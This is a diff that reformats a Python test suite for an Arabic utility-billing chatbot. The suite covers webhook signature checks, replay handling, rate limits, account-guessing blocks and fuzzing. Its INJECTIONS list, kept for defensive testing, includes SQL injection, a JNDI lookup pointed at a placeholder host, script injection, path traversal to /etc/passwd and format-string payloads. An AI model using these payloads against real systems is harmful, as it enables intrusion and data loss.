@@ -38,23 +38,47 @@ LINKED = "+966500000001"  # a demo subscriber with linked accounts (see bot/bill
 
 
 def settings_for(url: str, **overrides: object) -> Settings:
-    base = replace(Settings.from_env(), database_url=url, public_url=PUBLIC_URL,
-                   twilio_auth_token=TOKEN, billing_url=None, lang="ar")
+    base = replace(
+        Settings.from_env(),
+        database_url=url,
+        public_url=PUBLIC_URL,
+        twilio_auth_token=TOKEN,
+        billing_url=None,
+        lang="ar",
+    )
     return replace(base, **overrides)
 
 
-def form(sid: str, body: str = "مرحبا", sender: str = "+966501112233", **extra: str) -> dict[str, str]:
-    return {"MessageSid": sid, "SmsSid": sid, "AccountSid": "AC123", "From": f"whatsapp:{sender}",
-            "To": "whatsapp:+966920000000", "Body": body, "NumMedia": "0", **extra}
+def form(
+    sid: str, body: str = "مرحبا", sender: str = "+966501112233", **extra: str
+) -> dict[str, str]:
+    return {
+        "MessageSid": sid,
+        "SmsSid": sid,
+        "AccountSid": "AC123",
+        "From": f"whatsapp:{sender}",
+        "To": "whatsapp:+966920000000",
+        "Body": body,
+        "NumMedia": "0",
+        **extra,
+    }
 
 
-def sign(params: dict[str, str], path: str = "/twilio/whatsapp", token: str = TOKEN,
-         url: str = PUBLIC_URL) -> str:
+def sign(
+    params: dict[str, str],
+    path: str = "/twilio/whatsapp",
+    token: str = TOKEN,
+    url: str = PUBLIC_URL,
+) -> str:
     return RequestValidator(token).compute_signature(url + path, params)
 
 
-def post(client: TestClient, params: dict[str, str], signature: str | None,
-         path: str = "/twilio/whatsapp"):
+def post(
+    client: TestClient,
+    params: dict[str, str],
+    signature: str | None,
+    path: str = "/twilio/whatsapp",
+):
     headers = {} if signature is None else {"X-Twilio-Signature": signature}
     return client.post(path, data=params, headers=headers)
 
@@ -93,7 +117,9 @@ def test_forged_requests_are_refused_before_any_work(client, seeded_database_url
     assert rows(seeded_database_url, Contact) == 0 and rows(seeded_database_url, Delivery) == 0
 
 
-def test_a_replayed_delivery_is_handled_once_and_answered_the_same(client, seeded_database_url) -> None:
+def test_a_replayed_delivery_is_handled_once_and_answered_the_same(
+    client, seeded_database_url
+) -> None:
     # A location with the words: an outage report at once (a bare location is asked about first).
     params = form("SMreplay", body="الكهرباء طافية", Latitude="24.7136", Longitude="46.6753")
     signature = sign(params)
@@ -108,14 +134,26 @@ def test_a_replayed_delivery_is_handled_once_and_answered_the_same(client, seede
 def test_a_replayed_signature_on_a_new_message_id_is_refused(client) -> None:
     params = form("SMfirst")
     assert post(client, params, sign(params)).status_code == 200
-    assert post(client, {**params, "MessageSid": "SMsecond", "SmsSid": "SMsecond"},
-                sign(params)).status_code == 403
+    assert (
+        post(
+            client, {**params, "MessageSid": "SMsecond", "SmsSid": "SMsecond"}, sign(params)
+        ).status_code
+        == 403
+    )
 
 
-def inbound(text: str, sender: str = "+966501112233", channel: str = "whatsapp", **extra) -> Inbound:
-    return Inbound(channel=channel, sender=sender, text=text, received_at=datetime.now(UTC),
-                   message_id=uuid.uuid4().hex, phone=sender if sender.startswith("+") else None,
-                   **extra)
+def inbound(
+    text: str, sender: str = "+966501112233", channel: str = "whatsapp", **extra
+) -> Inbound:
+    return Inbound(
+        channel=channel,
+        sender=sender,
+        text=text,
+        received_at=datetime.now(UTC),
+        message_id=uuid.uuid4().hex,
+        phone=sender if sender.startswith("+") else None,
+        **extra,
+    )
 
 
 class StatementCounter:
@@ -129,7 +167,9 @@ class StatementCounter:
         self.count += 1
 
 
-def test_a_thousand_messages_a_minute_from_one_number_do_no_work_past_the_limit(database_url) -> None:
+def test_a_thousand_messages_a_minute_from_one_number_do_no_work_past_the_limit(
+    database_url,
+) -> None:
     engine = Engine(settings_for(database_url, rate_limit_per_minute=20))
     statements = StatementCounter(database_url)
     answers = [engine.respond(inbound(f"مرحبا {n}")) for n in range(21)]
@@ -143,7 +183,9 @@ def test_a_thousand_messages_a_minute_from_one_number_do_no_work_past_the_limit(
     assert engine.respond(inbound("مرحبا", sender="+966509998877")).replies  # others unaffected
 
 
-def test_a_flood_through_the_webhook_gets_one_slow_down_then_empty_answers(seeded_database_url) -> None:
+def test_a_flood_through_the_webhook_gets_one_slow_down_then_empty_answers(
+    seeded_database_url,
+) -> None:
     app = create_app(settings_for(seeded_database_url, rate_limit_per_minute=5))
     with TestClient(app) as client:
         answers = [post(client, p, sign(p)) for p in (form(f"SMflood{n}") for n in range(12))]
@@ -158,9 +200,13 @@ def test_guessing_account_numbers_is_blocked_after_the_threshold(seeded_database
     rng = random.Random(7)
     guesses = [f"3009{rng.randrange(10**7):07d}" for _ in range(5)]
     for guess in guesses:
-        text = " ".join(r.text for r in engine.handle(inbound(f"فاتورة الحساب {guess}", sender=LINKED)))
+        text = " ".join(
+            r.text for r in engine.handle(inbound(f"فاتورة الحساب {guess}", sender=LINKED))
+        )
         assert "غير مرتبط" in text
-    blocked = " ".join(r.text for r in engine.handle(inbound("فاتورة الحساب 30099999999", sender=LINKED)))
+    blocked = " ".join(
+        r.text for r in engine.handle(inbound("فاتورة الحساب 30099999999", sender=LINKED))
+    )
     assert "لمدة ساعة" in blocked and "••••" not in blocked  # refused before any lookup
     # Bill alerts by a bare account number are account lookups too.
     alerts = " ".join(r.text for r in engine.handle(inbound("30098765432", sender=LINKED)))
@@ -168,8 +214,9 @@ def test_guessing_account_numbers_is_blocked_after_the_threshold(seeded_database
     # The sender's own bills by their number, and other senders, are not affected.
     own = " ".join(r.text for r in engine.handle(inbound("فاتورتي", sender=LINKED)))
     assert "لمدة ساعة" not in own and "حساب" in own
-    other = " ".join(r.text for r in engine.handle(inbound("فاتورة الحساب 30011111111",
-                                                           sender="+966500000002")))
+    other = " ".join(
+        r.text for r in engine.handle(inbound("فاتورة الحساب 30011111111", sender="+966500000002"))
+    )
     assert "لمدة ساعة" not in other
 
 
@@ -177,24 +224,91 @@ def test_bill_alert_guesses_count_towards_the_block(seeded_database_url) -> None
     engine = Engine(settings_for(seeded_database_url, account_misses_per_hour=3))
     for n in range(3):
         engine.handle(inbound(f"3007000000{n}", sender=LINKED))
-    blocked = " ".join(r.text for r in engine.handle(inbound("فاتورة الحساب 30012345678", sender=LINKED)))
+    blocked = " ".join(
+        r.text for r in engine.handle(inbound("فاتورة الحساب 30012345678", sender=LINKED))
+    )
     assert "لمدة ساعة" in blocked
 
 
 # Hostile messages ---------------------------------------------------------------------------
 
 INJECTIONS = [
-    "'; DROP TABLE contacts; --", "\" OR 1=1 --", "{0.__class__.__mro__}", "{amount}", "{}", "{{",
-    "%s%s%s%n", "%(account)s", "<Message>x</Message>", "]]><x/>", "<script>alert(1)</script>",
-    "${jndi:ldap://x.example/a}", "\x00\x00", "\u202eمرحبا\u202c", "\ufeff1", "\u200f\u200e",
-    "../../etc/passwd", "STOP", "START", "HELP", "إلغاء", "English", "عربي", "القائمة", "تفاصيل",
-    "0", "1", "٢", "۳", "9", "-1", "99999999999999999999999", "1e309", "NaN", "\n\n\n", " ",
+    "'; DROP TABLE contacts; --",
+    '" OR 1=1 --',
+    "{0.__class__.__mro__}",
+    "{amount}",
+    "{}",
+    "{{",
+    "%s%s%s%n",
+    "%(account)s",
+    "<Message>x</Message>",
+    "]]><x/>",
+    "<script>alert(1)</script>",
+    "${jndi:ldap://x.example/a}",
+    "\x00\x00",
+    "\u202eمرحبا\u202c",
+    "\ufeff1",
+    "\u200f\u200e",
+    "../../etc/passwd",
+    "STOP",
+    "START",
+    "HELP",
+    "إلغاء",
+    "English",
+    "عربي",
+    "القائمة",
+    "تفاصيل",
+    "0",
+    "1",
+    "٢",
+    "۳",
+    "9",
+    "-1",
+    "99999999999999999999999",
+    "1e309",
+    "NaN",
+    "\n\n\n",
+    " ",
 ]
-WORDS = ["فاتورة", "فاتورتي", "الكهرباء", "مقطوعة", "انقطاع", "تعويض", "بلاغ", "حساب", "حي",
-         "العليا", "الرياض", "ساعتين", "من الساعة ٨ الصبح", "bill", "outage", "compensation",
-         "power", "account", "status", "agent", "موظف", "شكرا", "هلا", "😡", "🔌", "⚡️", "🇸🇦"]
-CODE_POOLS = [(0x20, 0x7E), (0x600, 0x6FF), (0x660, 0x669), (0x6F0, 0x6F9), (0x0, 0x10FFFF),
-              (0x1F300, 0x1FAFF), (0x200B, 0x206F), (0xFE70, 0xFEFF)]
+WORDS = [
+    "فاتورة",
+    "فاتورتي",
+    "الكهرباء",
+    "مقطوعة",
+    "انقطاع",
+    "تعويض",
+    "بلاغ",
+    "حساب",
+    "حي",
+    "العليا",
+    "الرياض",
+    "ساعتين",
+    "من الساعة ٨ الصبح",
+    "bill",
+    "outage",
+    "compensation",
+    "power",
+    "account",
+    "status",
+    "agent",
+    "موظف",
+    "شكرا",
+    "هلا",
+    "😡",
+    "🔌",
+    "⚡️",
+    "🇸🇦",
+]
+CODE_POOLS = [
+    (0x20, 0x7E),
+    (0x600, 0x6FF),
+    (0x660, 0x669),
+    (0x6F0, 0x6F9),
+    (0x0, 0x10FFFF),
+    (0x1F300, 0x1FAFF),
+    (0x200B, 0x206F),
+    (0xFE70, 0xFEFF),
+]
 CHANNELS = ("whatsapp", "sms", "telegram")
 
 
@@ -231,16 +345,26 @@ def hostile_messages(count: int, seed: int = 20261124, senders: int = 50) -> lis
         sender = f"tg:{900000 + who}" if channel == "telegram" else f"+9665{who:08d}"
         location = None
         if rng.random() < 0.03:
-            location = Location(rng.uniform(-90, 90), rng.uniform(-180, 180),
-                                rng.choice([None, _random_text(rng)[:200]]))
-        out.append(Inbound(
-            channel=channel, sender=sender, text=_random_text(rng),
-            received_at=start + timedelta(seconds=n * rng.choice([1, 60, 3600])),
-            message_id=f"hostile-{n}", phone=None if channel == "telegram" else sender,
-            location=location, has_media=rng.random() < 0.02,
-            contact_phone=rng.choice([None, None, None, sender[3:], "+٩٦٦٥٠٠٠٠٠٠٠١", "x" * 40])
-            if channel == "telegram" else None,
-        ))
+            location = Location(
+                rng.uniform(-90, 90),
+                rng.uniform(-180, 180),
+                rng.choice([None, _random_text(rng)[:200]]),
+            )
+        out.append(
+            Inbound(
+                channel=channel,
+                sender=sender,
+                text=_random_text(rng),
+                received_at=start + timedelta(seconds=n * rng.choice([1, 60, 3600])),
+                message_id=f"hostile-{n}",
+                phone=None if channel == "telegram" else sender,
+                location=location,
+                has_media=rng.random() < 0.02,
+                contact_phone=rng.choice([None, None, None, sender[3:], "+٩٦٦٥٠٠٠٠٠٠٠١", "x" * 40])
+                if channel == "telegram"
+                else None,
+            )
+        )
     return out
 
 
@@ -268,15 +392,19 @@ def test_three_thousand_hostile_messages_never_crash_and_fit_their_channel(tmp_p
 
 
 @pytest.mark.slow
-def test_two_workers_share_one_rate_limit_through_redis(redis_url, seeded_database_url, tmp_path) -> None:
+def test_two_workers_share_one_rate_limit_through_redis(
+    redis_url, seeded_database_url, tmp_path
+) -> None:
     """A flood spread over two `sadeeq serve` processes is limited once, not once per worker."""
     from tests.test_faults import Worker, post_signed, running
 
     env = {"SADEEQ_REDIS_URL": redis_url, "SADEEQ_RATE_LIMIT_PER_MINUTE": "10"}
     first, second = (Worker(seeded_database_url, tmp_path / f"w{n}.log", **env) for n in range(2))
     with running(first), running(second):
-        answers = [post_signed((first, second)[n % 2].url, form(f"SMshared{n}", body=f"مرحبا {n}"))
-                   for n in range(30)]
+        answers = [
+            post_signed((first, second)[n % 2].url, form(f"SMshared{n}", body=f"مرحبا {n}"))
+            for n in range(30)
+        ]
     assert [a.status_code for a in answers] == [200] * 30
     counts = [len(messages_in(a.text)) for a in answers]
     assert sum(1 for c in counts if c) == 11  # ten answers and one "slow down", over both workers
